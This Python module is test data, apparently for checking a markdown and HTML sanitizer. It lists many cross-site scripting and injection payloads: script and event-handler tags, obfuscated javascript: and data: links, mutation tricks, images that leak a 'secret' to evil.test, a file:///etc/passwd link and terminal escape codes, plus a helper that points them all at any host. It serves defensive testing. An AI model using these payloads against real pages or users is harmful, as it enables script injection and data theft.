"""Answers that try to run, fetch, leave or hide something: data for tests of text and of pages."""

import re

_ADDRESS = re.compile(r"(https:)?//[\w.]*\.test\b")
EVIL = "<img src=https://evil.test/x onerror=alert(1)>"

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in caps over lines": "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "onerror": "Hello <img src=x onerror=alert(1)> world",
    "svg onload": "<svg/onload=alert(1)>",
    "svg use": "<svg><image href='https://evil.test/a'/></svg>",
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "style": "<style>@import 'https://evil.test/a.css';</style>",
    "css url": '<p style="background:url(https://evil.test)">x</p>',
    "video poster": '<video poster="https://evil.test/p.png"></video>',
    "command linker": '<button data-commandlinker-command="runmenu:run-all">Go</button>',
    "open tag at the end": "text <img src=https://evil.test/x onerror=alert(1) ",
    "comment": "<!-- <b>x</b> --> <!-->",
    "open comment": "<!-- never closed\n\nmore",
    "cdata": "<![CDATA[ <script>alert(1)</script> ]]>",
    "processing instruction": "<?php echo 1 ?>",
    "declaration": "<!DOCTYPE html>",
    "details breakout": "</details></summary><script>alert(1)</script>",
    "pre breakout": "</code></pre><script>alert(1)</script>",
    "br with attribute": "<br onmouseover=alert(1)>",
    "sub with attribute": "<sub onclick=alert(1)>2</sub>",
    "sub around a tag": f"<sub>{EVIL}</sub>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript in odd case": "[x](JaVaScRiPt:alert(1))",
    "javascript by entity": "[x](java&#115;cript:alert(1))",
    "javascript by entity colon": "[x](javascript&colon;alert(1))",
    "javascript with tab": "[x](java\tscript:alert(1))",
    "javascript after newline": "[x](\njavascript:alert(1))",
    "javascript with control": "[x](\x01javascript:alert(1))",
    "javascript in angle": "[x](<javascript:alert(1)>)",
    "vbscript": "[x](vbscript:msgbox)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[x](file:///etc/passwd)",
    "relative link": "[x](../api/shutdown)",
    "protocol-relative link": "[x](//evil.test/)",
    "reference link": "[x][r]\n\n[r]: javascript:alert(1)",
    "reference link, next line": "[r]\n\n[r]:\njavascript:alert(1)",
    "reference in a quote": "> [r]: javascript:alert(1)\n\n[r]",
    "footnote-like definition": "[^1]: javascript:alert(1)\n\n[^1]",
    "javascript autolink": "<javascript:alert(1)>",
    "autolink with quotes": '<https://a.test/"onmouseover="alert(1)>',
    "ftp autolink": "ftp://evil.test/x and FTP://evil.test",
    "ftp in a fragment": "[x]\n[x]: #ftp://evil.test",
    "image": "![secret](https://evil.test/?q=secret)",
    "image by reference": "![x][r]\n\n[r]: https://evil.test/x.png",
    "image in link": "[![x](https://evil.test/i.png)](https://ok.test)",
    "image after escape": r"\\![x](https://evil.test/) \![x](https://evil.test/)",
    "image after a bare address": "https://a.test/!![x](https://evil.test/)",
    "image after a mark": "!![x](https://evil.test/) !!![](https://evil.test/) !!!![[x](https://e.test)",
    "image with data": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "nested brackets": "[a [b](javascript:alert(1)) c](javascript:alert(2)) ![[x](https://e.test)",
    "quote through lifted math": '[x](https://a.test/$"onmouseover="alert(1)"$)',
    "quote through math in title": '[x](https://a.test "a $" onmouseover="alert(1)" b="$")',
    "quote through math in bare": 'https://a.test/$"onmouseover="alert(1)"$',
    "quote through environment": r'https://a.test/\begin{align}"onclick="alert(1)"\end{align}',
    "quote through model math": r'https://a.test/\("onclick="alert(1)"\)',
    "quote in math after a bracket": '[https://a.test](x)$" onmouseover="alert(1)" "$',
    "math command": r"$\href{javascript:alert(1)}{x} \style{background:url(//e.test)}{y}$",
    "html in math": f"$a {EVIL} b$ and $${EVIL}$$ and \\({EVIL}\\) and \\[{EVIL}\\]",
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "mermaid with options": "~~~ Mermaid {theme}\ngraph\n~~~",
    "mermaid in list": "- ```mermaid\n  graph\n  ```",
    "mermaid in quote": "> 1. ~~~mermaid\n>    graph\n>    ~~~",
    "mermaid in deep list": "- - - > ```mermaid\n- - - > graph",
    "begin swallows a fence": f"\\begin{{x}}\n```html\n\\end{{x}}\n{EVIL}\n```",
    "begin swallows over a blank line": f"\\begin{{x}}\n\n```html\n\\end{{x}}\n\n{EVIL}\n```",
    "double bracket swallows": f"a \\\\[ b\n```html\n\\\\]\n{EVIL}\n```",
    "double paren swallows": f"a \\\\( b\n```html\n\\\\)\n{EVIL}\n```",
    "dollars across fences": f"$$\n```html\n$$\n{EVIL}\n```\n$$",
    "begin in an earlier fence": f"```\n\\begin{{x}}\n```\n```html\n\\end{{x}}\n{EVIL}\n```",
    "unbalanced braces": f'$a {{ b$ [x](https://a.test "}}$ c" ) {EVIL} $}}$',
    "label runs into a fence": f"[\n\ntext\n\n```html\n]: x\n{EVIL}\n```",
    "label with image runs into a fence": f"![a\n\n```html\n]: x\n{EVIL}\n```",
    "title runs into a fence": f'[r]: https://a.test\n"s\n\n```html\n"\n{EVIL}\n```',
    "paren title runs into a fence": f"[r]: https://a.test\n(s\n\n```html\n)\n{EVIL}\n```",
    "line break hides a list fence": f"<br>\n- ```html\n\n  {EVIL}\n  ```",
    "unbalanced backticks": f"`` a ` b {EVIL} ` c",
    "code span over blocks": f"- `a\n- b` {EVIL}\n\n# `x\n`{EVIL}",
    "backticks in info": f"```a`b\n{EVIL}\n```",
    "escaped backtick": f"\\`{EVIL}`",
    "code span with html": f"`{EVIL}` and ``{EVIL}``",
    "code span with lifted math": f"`$` {EVIL} `$`",
    "tab fence": f"\t```html\n{EVIL}\n\t```",
    "fence after list tab": f"-\t```html\n\t{EVIL}\n\t```\n{EVIL}",
    "under-indented fence in list": f"1. a\n   ```html\n{EVIL}\n   ```\n{EVIL}",
    "fence in quote left open": f"> ```html\n> a\n{EVIL}",
    "fence closed by a longer one": f"```html\na\n`````\n{EVIL}",
    "fence not closed by tildes": f"```html\n~~~\n{EVIL}",
    "info with quotes": '```html" onmouseover="alert(1)\nx\n```',
    "inner longer fence": f"````\n```\n{EVIL}\n```\n````\n{EVIL}",
    "ordered list in paragraph": f"text\n10. ```html\n    {EVIL}\n    ```\n```html\n{EVIL}\n```",
    "setext": f"{EVIL}\n===\n\n<b>\n---",
    "table cell": f"| a | b |\n|---|---|\n| {EVIL} | `x | {EVIL}` |",
    "long line": "x" * 20_000 + EVIL + "[" * 2_000 + "`" * 501 + "*" * 2_000,
    "null bytes": "<scr\x00ipt>alert(1)</scr\x00ipt> [x](java\x00script:alert(1))",
    "zero width": "<scr\u200bipt> [x](java\u200bscript:alert(1)) !\u200b[x](https://e.test)",
    "line separator": f"a\u2028```html\n{EVIL}\n\u2029```\n{EVIL}",
    "carriage return": f"```html\r{EVIL}\r```\r{EVIL}",
    "terminal escapes": "\x1b]0;title\x07\x1b]52;c;AAAA\x1b\\ \x1b[31mred \x9b31m",
    "placeholder": "@@0@@ $x$ @@1$y$ @@0 @@ https://a.test/@@0@@",
    "indented code": f"    {EVIL}\n    ![x](https://evil.test)",
    "everything open": f"<details>\n> - ```html\n{EVIL}\n$$ \\[ \\begin{{align}} ` <!-- [x](",
}

ATTACKS |= {
    "script with a source": "<script src=https://evil.test/a.js></script>",
    "script in svg": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x>",
    "style breakout": "<style><img src=x onerror=alert(1)></style><noscript><p title='</noscript>",
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "iframe source": "<iframe src=https://evil.test/frame></iframe>",
    "iframe with a script address": "<iframe src='javascript:alert(1)'></iframe>",
    "object and embed": "<object data=https://evil.test/o></object><embed src=https://evil.test/e>",
    "stylesheet": "<link rel=stylesheet href=https://evil.test/a.css>",
    "preconnect": (
        "<link rel=preconnect href=https://evil.test><link rel=prefetch href=//evil.test/p>"
    ),
    "base": "<base href=https://evil.test/> [relative](x) ![relative](x.png)",
    "form": "<form action=https://evil.test/f><input autofocus onfocus=alert(1)><button>Send",
    "form action by button": "<form id=f></form><button form=f formaction=javascript:alert(1)>Go",
    "toggled details": "<details open ontoggle=alert(1)><summary>more</summary>text</details>",
    "animation": "<style>@keyframes x{}</style><p style='animation:x' onanimationstart=alert(1)>x",
    "pinging link": "<a href=https://evil.test ping=https://evil.test/ping>text</a>",
    "link in HTML": "<a href=javascript:alert(1)>text</a> <a href='data:text/html,x'>other</a>",
    "audio": "<audio src=https://evil.test/a.ogg autoplay></audio>",
    "image button": "<input type=image src=https://evil.test/i.png>",
    "image with srcset": "<img srcset='https://evil.test/1.png 1x'>",
    "picture": "<picture><source srcset=https://evil.test/p.webp><img></picture>",
    "css background": "<div style='background-image:url(https://evil.test/b.png)'>text</div>",
    "css list": "<ul style='list-style-image:url(//evil.test/l.png)'><li>text</ul>",
    "image in angle": "![secret](<https://evil.test/a b.png>)",
    "image with a title": '![secret](https://evil.test/a.png "title")',
    "image without protocol": "![secret](//evil.test/a.png)",
    "image by collapsed reference": "![secret][]\n\n[secret]: https://evil.test/x.png",
    "image by shortcut reference": "![secret]\n\n[secret]: <https://evil.test/x.png>",
    "image in a heading": "# ![secret](https://evil.test/a.png)",
    "image in a table": "| a |\n|---|\n| ![secret](https://evil.test/a.png) |",
    "image over lines": "![secret\nwords](https://evil.test/a.png\n'title')",
    "image by autolink": "!<https://evil.test/?q=secret> !!<https://evil.test/a> \\!<mailto:a@b.c>",
    "image by entities": (
        "&#33;[secret](https://evil.test/a.png) &excl;&lbrack;secret](https://e.test)"
    ),
    "entities of a tag": (
        "&lt;img src=https://evil.test/x&gt; &#60;script&#62;alert(1)&#60;/script&#62;"
    ),
    "javascript by decimal entities": "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "javascript by long entity": "[x](&#0000106avascript:alert(1)) [x](&#x6A;avascript:alert(1))",
    "javascript by named white space": (
        "[x](java&Tab;script:alert(1)) [x](&NewLine;javascript:alert(1))"
    ),
    "javascript with a slash": "[x](javascript://a.test/%0aalert(1)) [x](javascript:/**/alert(1))",
    "javascript escaped": r"[x](javascript\:alert\(1\)) [x](\javascript:alert(1))",
    "javascript percent-encoded": "[x](%6aavascript:alert(1)) [x](javascript%3Aalert(1))",
    "javascript in a reference, angle": "[x]\n\n[x]: <JAVASCRIPT:alert(1)> 'title'",
    "javascript after spaces": "[x](  javascript:alert(1)  ) [x](\u00a0javascript:alert(1))",
    "data link in caps": (
        "[x](DATA:text/html,<script>alert(1)</script>) [x](data&colon;text/html,x)"
    ),
    "data link in a reference": (
        "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    ),
    "blob link": "[x](blob:https://evil.test/1) [x](view-source:https://evil.test)",
    "math link": (
        r"$\href{https://evil.test}{x}$ "
        r"\(\href{javascript:alert(1)}{y}\) $$\url{data:x}$$"
    ),
    "math with HTML": (
        r"$\require{html}\class{a}{x} \cssId{b}{y} "
        r"\style{color:red}{z} \data{c=1}{d}$"
    ),
    "math with a picture": r"\[ \includegraphics{https://evil.test/a.png} \unicode{60}img \]",
    "math with a macro": (
        r"$\def\x{\href{javascript:alert(1)}{x}} \x$ "
        r"$\newcommand{\y}{<img src=x>}\y$"
    ),
    "math in a quote of an attribute": (
        '$x" onclick="alert(1)$ $$y" style="background:url(//evil.test)$$'
    ),
    "mermaid with a picture": (
        "```mermaid\ngraph TD; A[\"<img src='https://evil.test/m.png'>\"]\n```"
    ),
    "mermaid with a theme": "~~~mermaid\n"
    "%%{init: {'themeCSS': '*{background:url(//evil.test)}'}}%%\n"
    "graph TD; A\n~~~",
    "mermaid with a click": '```mermaid\ngraph TD; A\nclick A href "javascript:alert(1)"\n```',
    "mermaid with attributes": "```{.mermaid}\ngraph TD; A[<script>alert(1)</script>]\n```",
    "comment that ends oddly": f"<!-- a --!> {EVIL} <!-->{EVIL}--> <!- b -> <!--> {EVIL}",
    "unclosed tags": "<b><i><table><td> and <a href='https://evil.test\n\n<div title=\"",
    "nested fences": (
        f"````html\n```mermaid\n{EVIL}\n```\n{EVIL}\n~~~\n````\n\n~~~\n```\n{EVIL}\n~~~\n{EVIL}"
    ),
    "fence in a fence in a list": (
        f"- ```html\n  ~~~\n  {EVIL}\n  ```\n  {EVIL}\n- ~~~\n  ```\n{EVIL}"
    ),
    "command in a link": (
        "[run](commandlinker:runmenu:run-all) <a data-commandlinker-command=x>go</a>"
    ),
    "heading with markup": f"# <script>alert(1)</script> {EVIL}\n\n{EVIL}\n---",
    "task list with markup": f"- [ ] {EVIL}\n- [x] <script>alert(1)</script>",
    "footnote with markup": f"text[^1]\n\n[^1]: {EVIL} ![x](https://evil.test/a.png)",
}


def aimed(attack: str, host: str) -> str:
    """The attack with every address leading to this host, over plain HTTP."""
    return _ADDRESS.sub(lambda found: f"{'http:' if found[1] else ''}//{host}", attack)
